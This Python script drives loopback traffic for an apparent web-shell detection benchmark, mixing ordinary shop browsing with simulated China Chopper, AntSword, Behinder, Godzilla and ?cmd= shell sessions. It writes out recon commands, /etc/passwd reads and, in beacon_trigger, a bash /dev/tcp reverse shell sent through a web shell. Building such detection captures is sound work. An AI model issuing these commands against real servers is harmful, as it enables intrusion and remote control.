#!/usr/bin/env python3
"""Client drivers for the capture set. Each scenario talks to server.py on 127.0.0.1.

usage: drive.py SCENARIO [--server 127.0.0.1] [--seed N]
  normal     ordinary browsing of the shop by 127.0.0.10-20 (browser-like, keep-alive)
  chopper    China Chopper session from 127.0.0.66 to /uploads/shell.php
  antsword   AntSword session from 127.0.0.66 to /wp-content/uploads/cache.php
  behinder   Behinder v3 sessions from 127.0.0.66: /uploads/b.php (:8080), /images/x.jsp (:8443),
             /aspnet_client/system_web/a.aspx (:8080)
  godzilla   Godzilla sessions from 127.0.0.66: /uploads/god.php (PHP_XOR_BASE64), /static/js/lib.jsp
             (JAVA_AES_RAW, :8443)
  cmd        plain ?cmd= shells from 127.0.0.66: /uploads/cmd.php, /aspnet_client/system_web/cmd.aspx
  beacon     a reverse-shell command through /uploads/cmd.php that makes the server call 127.0.0.3:4444
  benign     the benign mix (login, JSON API, multipart upload, search, chunked stream, download, DNS/NTP-like UDP)
  mix        normal + every shell family, for the benchmark's base capture
"""
import argparse
import http.client
import json
import random
import socket
import struct
import sys
import time
import urllib.parse

import families as F
import shopsite

SERVER = "127.0.0.1"
ATTACKER = "127.0.0.66"
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
]
RNG = random.Random(1)


def pause(lo=0.02, hi=0.15):
    time.sleep(RNG.uniform(lo, hi))


class Client:
    """One keep-alive HTTP/1.1 client bound to a source address, with a cookie jar of one."""

    def __init__(self, src, port=8080, ua=None, base=None):
        self.src, self.port = src, port
        self.ua = ua or RNG.choice(BROWSERS)
        self.base = base or {}
        self.cookie = None
        self.conn = None
        self.seen = set()

    def req(self, method, path, body=None, headers=None, close=False, cookie_semicolon=False):
        if self.conn is None:
            self.conn = http.client.HTTPConnection(SERVER, self.port, timeout=10, source_address=(self.src, 0))
        h = {"User-Agent": self.ua}
        h.update(self.base)
        if self.cookie:
            h["Cookie"] = self.cookie + (";" if cookie_semicolon else "")
        h.update(headers or {})
        if close:
            h["Connection"] = "close"
        try:
            self.conn.request(method, path, body=body, headers=h)
            r = self.conn.getresponse()
            data = r.read()
        except (http.client.HTTPException, OSError):
            self.conn.close()
            self.conn = None
            raise
        sc = r.getheader("Set-Cookie")
        if sc:
            self.cookie = sc.split(";", 1)[0]
        if close or r.getheader("Connection", "").lower() == "close":
            self.conn.close()
            self.conn = None
        return r.status, data

    def close(self):
        if self.conn:
            self.conn.close()
            self.conn = None


BROWSER_HEADERS = {
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "Accept-Language": "en-GB,en;q=0.9",
    "Accept-Encoding": "gzip, deflate",
}


def browse(c: Client, pages):
    """Pages with their requisites; like a browser cache, each requisite is fetched once per client."""
    for p in pages:
        c.req("GET", p, headers=BROWSER_HEADERS)
        for sub in ("/css/site.css", "/js/app.js", "/img/logo.png"):
            if sub not in c.seen:
                c.seen.add(sub)
                c.req("GET", sub, headers={"Accept": "*/*", "Referer": f"http://{SERVER}:{c.port}{p}", "Accept-Encoding": "gzip, deflate"})
        pause()


def normal(rounds=1, clients=4, first=10, last=20):
    """`clients` of the addresses first..last each read two or three pages (and maybe a photo)."""
    pages = ["/", "/products/", "/about.html", "/news/", "/news/2024-03-02.html"] + [f"/products/item?id={i}" for i in range(1, 9)]
    for _ in range(rounds):
        for n in RNG.sample(range(first, last + 1), min(clients, last - first + 1)):
            c = Client(f"127.0.0.{n}")
            browse(c, RNG.sample(pages, RNG.choice((2, 3))))
            if RNG.random() < 0.4:
                c.req("GET", f"/img/cup{RNG.randint(1, 8)}.jpg", headers={"Accept": "image/*"})
            c.close()


def chopper():
    c = Client(ATTACKER, ua=F.CHOPPER_UA, base={"Content-Type": "application/x-www-form-urlencoded",
                                                "Cache-Control": "no-cache", "X-Forwarded-For": "203.0.113.77",
                                                "Referer": f"http://{SERVER}"})
    path = "/uploads/shell.php"
    steps = [("info", "", ""), ("list", "/var/www/html/uploads", "")]
    for cmd in ("whoami", "id", "uname -a", "ls -la"):
        steps.append(("exec", "/bin/sh", f"cd /var/www/html/uploads;{cmd};echo [S];pwd;echo [E]"))
    steps.append(("read", "/etc/passwd", ""))
    for op, z1, z2 in steps:
        st, body = c.req("POST", path, F.chopper_request("caidao", op, z1, z2), close=True)
        assert body.startswith(b"->|") and body.endswith(b"|<-"), body[:80]
        pause(0.5, 1.5)


def antsword():
    c = Client(ATTACKER, ua=F.ANTSWORD_UA, base={"Content-Type": "application/x-www-form-urlencoded"})
    path = "/wp-content/uploads/cache.php"
    for i, cmd in enumerate(("whoami", "id", "ls -la", "cat /etc/passwd", "ps aux")):
        body, pre, suf = F.antsword_request(RNG, "ant", cmd, "base64" if i % 2 else "default")
        st, ans = c.req("POST", path, body, close=True)
        assert ans.startswith(pre.encode()) and ans.endswith(suf.encode()), ans[:80]
        pause(0.5, 1.5)


def behinder():
    for lang, path, port, cmds in (("php", "/uploads/b.php", 8080, ["whoami", "id", "ls -la"]),
                                   ("jsp", "/images/x.jsp", 8443, ["whoami", "id", "netstat -an"]),
                                   ("aspx", "/aspnet_client/system_web/a.aspx", 8080, ["whoami", "ipconfig", "dir"])):
        hdr = dict(F.BEHINDER_HEADERS)
        hdr["Referer"] = f"http://{SERVER}:{port}{path.rsplit('/', 1)[0]}/"
        if lang == "aspx":
            hdr["Content-Type"] = "application/octet-stream"
        c = Client(ATTACKER, port=port, ua=RNG.choice(F.BEHINDER_UAS), base=hdr)
        for op, arg in [("Echo", F.session_id(RNG, 40)), ("BasicInfo", "")] + [("Cmd", x) for x in cmds]:
            st, ans = c.req("POST", path, F.behinder_request(RNG, lang, op, arg))
            plain = json.loads(F.behinder_decrypt(lang, ans))
            assert F.unb64(plain["status"]) == b"success"
            pause(0.3, 1.0)
        c.close()


def godzilla():
    for lang, path, port, ctype in (("php", "/uploads/god.php", 8080, "application/x-www-form-urlencoded"),
                                    ("jsp", "/static/js/lib.jsp", 8443, "application/octet-stream")):
        hdr = dict(F.GODZILLA_HEADERS)
        hdr["Content-Type"] = ctype
        c = Client(ATTACKER, port=port, ua=F.GODZILLA_UA, base=hdr)
        st, ans = c.req("POST", path, F.godzilla_request(lang, F.godzilla_payload(RNG, lang)))
        assert ans == b"" and c.cookie
        calls = [[("methodName", "test")], [("methodName", "getBasicsInfo")]]
        for cmd in ("whoami", "id", "ls -la", "cat /etc/passwd"):
            calls.append([("cmdLine", f'sh -c "cd "/var/www/html/uploads/";{cmd}" 2>&1'), ("methodName", "execCommand")])
        for call in calls:
            st, ans = c.req("POST", path, F.godzilla_request(lang, F.godzilla_params(call)), cookie_semicolon=True)
            assert F.godzilla_decode_answer(lang, ans), ans[:40]
            pause(0.3, 1.0)
        c.close()


def cmd():
    c = Client(ATTACKER, ua=BROWSERS[0], base={"Accept": "*/*"})
    for q in ("whoami", "id", "ls -la", "cat /etc/passwd", "uname -a"):
        c.req("GET", "/uploads/cmd.php?" + urllib.parse.urlencode({"cmd": q}))
        pause(0.3, 1.0)
    for q in ("/c whoami", "/c ipconfig", "/c dir", "/c net user", "/c systeminfo"):
        c.req("GET", "/aspnet_client/system_web/cmd.aspx?" + urllib.parse.urlencode({"cmd": q}))
        pause(0.3, 1.0)
    c.close()


def beacon_trigger():
    c = Client(ATTACKER, ua=BROWSERS[0], base={"Accept": "*/*"})
    for q in ("id", "uname -a"):
        c.req("GET", "/uploads/cmd.php?" + urllib.parse.urlencode({"cmd": q}))
        pause(0.3, 1.0)
    c.req("GET", "/uploads/cmd.php?" + urllib.parse.urlencode({"cmd": "bash -c 'bash -i >& /dev/tcp/127.0.0.3/4444 0>&1'"}))
    c.close()


def udp_queries(src):
    """A DNS-like A query and an NTP client request, each answered by listener.py udp."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.settimeout(2)
    for name in ("www.example.com", "cdn.example.net"):
        q = struct.pack(">HHHHHH", RNG.randrange(65536), 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
        s.sendto(q, ("127.0.0.2", 53))
        s.recvfrom(512)
    s.sendto(b"\x23" + bytes(39) + struct.pack(">II", int(time.time()) + 2208988800, 0), ("127.0.0.2", 123))
    s.recvfrom(512)
    s.close()


def benign():
    udp_queries("127.0.0.13")
    # a shopper who signs in, orders through the JSON API and sends a photo
    c = Client("127.0.0.13")
    browse(c, ["/", "/products/"])
    c.req("GET", "/login", headers=BROWSER_HEADERS)
    st, _ = c.req("POST", "/login", urllib.parse.urlencode({"username": "alice", "password": "Tea-pot 42!"}).encode(),
                  headers={"Content-Type": "application/x-www-form-urlencoded", "Origin": f"http://{SERVER}:8080"})
    assert st == 302 and c.cookie
    c.req("GET", "/account", headers=BROWSER_HEADERS)
    for i in range(3):
        order = {"items": [{"sku": f"CUP-{RNG.randint(1, 8):04d}", "qty": RNG.randint(1, 3)}], "note": "gift wrap, please"}
        c.req("POST", "/api/v1/orders", json.dumps(order).encode(),
              headers={"Content-Type": "application/json", "Accept": "application/json", "Accept-Encoding": "gzip"})
        pause()
    avatar = F.b64(shopsite.png(32, 32, 5))
    c.req("POST", "/api/v1/avatar", json.dumps({"user": "alice", "image": avatar}).encode(),
          headers={"Content-Type": "application/json"})
    boundary = "----WebKitFormBoundary" + F.session_id(RNG, 16)
    photo = shopsite.png(48, 48, 6)
    mp = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"my-teacup.png\"\r\n"
          f"Content-Type: image/png\r\n\r\n").encode() + photo + f"\r\n--{boundary}\r\nContent-Disposition: form-data; ".encode()
    mp += f"name=\"caption\"\r\n\r\nMy favourite cup\r\n--{boundary}--\r\n".encode()
    c.req("POST", "/upload", mp, headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    c.req("GET", "/media/my-teacup.png", headers={"Accept": "image/*"})
    c.req("POST", "/contact", urllib.parse.urlencode({"email": "alice@example.org", "message": "Do you ship to Norway? "
                                                      "I would like 2 cups & 1 pot; cat-themed if possible."}).encode(),
          headers={"Content-Type": "application/x-www-form-urlencoded"})
    c.close()
    # a few others: search, the chunked stock stream, status polling, a download
    for n in (14, 15, 16):
        c = Client(f"127.0.0.{n}")
        c.req("GET", "/search?" + urllib.parse.urlencode({"q": RNG.choice(["cat cup", "whoami mug", "id card holder", "blue pot"])}),
              headers=BROWSER_HEADERS)
        c.req("GET", "/api/v1/stream", headers={"Accept": "application/x-ndjson"})
        for _ in range(3):
            c.req("GET", "/api/v1/status", headers={"Accept": "application/json", "Accept-Encoding": "gzip"})
        c.req("GET", "/news/2024-03-0%d.html" % (n - 12), headers=BROWSER_HEADERS)
        c.close()
    c = Client("127.0.0.17", ua="Wget/1.21.3")
    c.req("GET", "/downloads/tool-1.2.tar.gz", headers={"Accept": "*/*"})
    c.req("HEAD", "/downloads/catalogue-2024.pdf")
    c.close()
    udp_queries("127.0.0.18")


def main():
    global SERVER, RNG
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("scenario")
    ap.add_argument("--server", default="127.0.0.1")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--rounds", type=int, default=1)
    ap.add_argument("--clients", type=int, default=4, help="normal clients per round")
    a = ap.parse_args()
    SERVER, RNG = a.server, random.Random(a.seed)
    s = a.scenario
    if s == "normal":
        normal(a.rounds, a.clients)
    elif s == "chopper":
        chopper()
    elif s == "antsword":
        antsword()
    elif s == "behinder":
        behinder()
    elif s == "godzilla":
        godzilla()
    elif s == "cmd":
        cmd()
    elif s == "beacon":
        beacon_trigger()
    elif s == "benign":
        benign()
    elif s == "mix":
        normal(a.rounds, a.clients)
        for f in (chopper, antsword, behinder, godzilla, cmd):
            f()
        normal(a.rounds, a.clients)
    else:
        sys.exit(f"unknown scenario {s}")


if __name__ == "__main__":
    main()
